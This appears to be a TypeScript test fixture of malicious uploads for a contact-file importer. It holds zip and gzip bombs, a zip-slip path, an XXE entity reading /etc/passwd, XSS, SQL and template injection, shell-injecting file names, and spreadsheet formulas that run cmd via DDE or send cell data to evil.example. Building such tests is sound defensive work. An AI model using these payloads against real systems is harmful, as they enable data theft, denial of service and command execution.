/** What senders put into a file of contacts, by mistake or not. */
import { deflateRawSync, gzipSync } from 'node:zlib';
import { refused } from '../../imports/bad-files.ts';
import type { Expected } from '../verdict.ts';

interface BadFile {
  what: string;
  expects: Expected;
  content: string | Uint8Array;
}

const head = 'First,Phone\n';
const row = 'Ann,3025550148\n';
const good = head + row;
const magic = (text: string) => Buffer.from(`${text}${'\0\x01\x02\xff'.repeat(400)}`, 'latin1');

/** One file in a zip, as a workbook begins, that unpacks to a thousand times its size. */
function zipBomb(name: string): Buffer {
  const packed = deflateRawSync(Buffer.alloc(20_000_000));
  const header = Buffer.alloc(30);
  header.write('PK\x03\x04', 'latin1');
  header.writeUInt16LE(8, 8);
  header.writeUInt32LE(packed.length, 18);
  header.writeUInt32LE(20_000_000, 22);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, Buffer.from(name), packed]);
}

const kinds: [string, string | Uint8Array][] = [
  ['a zip bomb', zipBomb('bomb.csv')],
  ['a workbook that is a zip bomb', zipBomb('[Content_Types].xml')],
  ['a zip whose file leads out', zipBomb('../../../../etc/cron.d/x')],
  ['a packed table', gzipSync(good)],
  ['a bomb of gzip', gzipSync(Buffer.alloc(20_000_000))],
  ['an old workbook', magic('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1')],
  ['a PDF', magic('%PDF-1.7\n')],
  ['a program', magic('\x7fELF\x02\x01\x01')],
  ['a program of Windows', magic('MZ\x90\x00')],
  ['a 7z archive', magic("7z\xbc\xaf'\x1c")],
  ['a RAR archive', magic('Rar!\x1a\x07')],
  ['an SQLite database', magic('SQLite format 3\0')],
  ['a page', '<!doctype html><script>alert(1)</script><table><tr><td>Phone</td></tr></table>'],
  [
    'XML that reads a file',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  ],
  [
    'a billion laughs',
    `<!DOCTYPE z [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n} "${`&a${n || ''};`.repeat(10)}">`).join('')}]><z>&a8;</z>`,
  ],
  ['JSON', '[{"First":"Ann","Phone":"3025550148"}]'],
  ['a mark of UTF-16 alone', Buffer.from([0xff, 0xfe])],
  ['a mark of UTF-8 alone', Buffer.from([0xef, 0xbb, 0xbf])],
  [
    'UTF-32',
    Buffer.from(`\xff\xfe\0\0${[...good].map((one) => `${one}\0\0\0`).join('')}`, 'latin1'),
  ],
  ['UTF-7', '+ACI-First+ACI-,Phone\n+AD0-cmd()\n'],
  ['EBCDIC', Buffer.from(good).map((byte) => (byte + 0x80) & 0xff)],
  ['text in the other direction', Buffer.from(`\ufeff${good}`, 'utf16le').swap16().subarray(0, -1)],
  ['UTF-8 in too many bytes', Buffer.from(`${head}\xc0\xaf\xe0\x80\xaf,3025550148\n\0`, 'latin1')],
  ['NULs alone', Buffer.alloc(100_000)],
  ['one byte', 'a'],
  ['8 MB of commas', ','.repeat(8_000_000)],
  ['quotes alone', '"'.repeat(100_001)],
  ['2,001 columns', `${Array.from({ length: 2_001 }, (_, n) => `c${n}`).join(',')}\n`],
  ['a cell of 2 MB', `${head}${'x'.repeat(2_000_000)},3025550148\n`],
  ['a row of 4 MB', `${head}"${'x\n'.repeat(2_000_000)}",3025550148\n`],
];

/** May be taken: their rows are counted as wrong, or their cells are cut. */
const odd: [string, string | Uint8Array][] = [
  ['a header of __proto__', `__proto__,Phone\nAnn,3025550148\n`],
  ['a header of constructor', `constructor,toString\nAnn,3025550148\n`],
  ['a header twice', `Phone,Phone\n3025550148,3025550149\n`],
  ['a header of 5,000 letters', `${'x'.repeat(5_000)},Phone\n${row}`],
  ['a header of markup', `"<img src=x onerror=alert(1)>",Phone\n${row}`],
  ['columns in another order', `Phone,First\n3025550148,Ann\n`],
  ['2,000 columns', `First,Phone,${Array.from({ length: 1_998 }, (_, n) => `c${n}`).join(',')}\n`],
  ['5,000 wrong numbers', head + 'Ann,12\n'.repeat(5_000)],
  ['a number 5,000 times', head + row.repeat(5_000)],
  ['numbers of other scripts', `${head}Ann,٣٠٢٥٥٥٠١٤٨\nBob,３０２５５５０１４８\n`],
  ['numbers with words', `${head}Ann,tel:+1-302-555-0148;ext=9\nBob,911\nCy,1-900-555-0148\n`],
  ['a cell of 60,000 letters', `${head}${'x'.repeat(60_000)},3025550148\n`],
  ['a cell of 20,000 marks', `${head}a${'\u0301'.repeat(20_000)},3025550148\n`],
  ['lines without an end', `${head}Ann,3025550148`],
  ['blank lines', head + '\n'.repeat(50_000) + row],
  ['the other way round', `${head}\u202eAnn\u2066,\u200b3025550148\n`],
  ['SQL', `${head}"'; DROP TABLE list_entry; --",3025550148\n`],
  ['COPY', `${head}\\.,3025550148\n\\N,3025550149\n"a\tb\\\n",3025550147\n`],
  ['a script', `${head}<script>alert(1)</script>,3025550148\n`],
  ['a template', `${head}{{7*7}}\${7*7}<%= 7 %>,3025550148\n`],
  ['a formula', `${head}"=cmd|'/C calc'!A0",3025550148\n`],
  ['a NUL of another kind', `${head}\u2400\u0001\u001b[31m,3025550148\n`],
];

export const badFiles = (): BadFile[] => [
  ...refused.map(([what, content]) => ({ what, content, expects: 'refused' as const })),
  ...kinds.map(([what, content]) => ({ what, content, expects: 'refused' as const })),
  ...odd.map(([what, content]) => ({ what, content, expects: 'either' as const })),
];

export const fileNames: string[] = [
  ...[
    '',
    '.',
    '..',
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '/etc/passwd',
    'C:\\a.csv',
  ],
  ...[
    'a\0.csv',
    'a.csv\0.exe',
    'a\r\nSet-Cookie: a=b.csv',
    '.htaccess',
    'CON',
    'a/b.csv',
    'a.csv/',
  ],
  ...[
    'a'.repeat(10_000),
    '\u202evsc.exe',
    '<img src=x onerror=alert(1)>.csv',
    "'; DROP TABLE sound; --",
  ],
  ...[
    '=cmd().csv',
    '%2e%2e%2fa.csv',
    'a%00.csv',
    '\ud800.csv',
    '💥'.repeat(300),
    'a;filename=b.csv',
  ],
  ...['$(id).csv', '`id`.csv', '|id', '-rf', '~', 'people.csv.exe', 'people.php', 'people.svg'],
];

export const mediaTypes: string[] = [
  ...[
    'text/html',
    'image/svg+xml',
    'application/x-msdownload',
    'application/zip',
    'message/rfc822',
  ],
  ...[
    'multipart/mixed; boundary=x',
    'text/csv; charset=utf-7',
    'text/csv; charset=no-such',
    '',
    '/',
  ],
  ...['text/csv; charset="', 'a'.repeat(5_000), 'application/json', 'text/csv;'.repeat(500)],
];

/** What spreadsheets, old ones too, take for a formula. */
export const formulas: string[] = [
  ...[
    '=1+1',
    "=cmd|'/C calc'!A0",
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
  ],
  ...[
    ' =1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '"=1+1',
    "'=1+1",
    '\n=1+1',
  ],
  ...['=HYPERLINK("http://evil.example?x="&A1,"ok")', '%0A=1+1', ';=1+1', ',=1+1', '|=1+1'],
  ...[
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    '\u00a0=1+1',
  ],
];
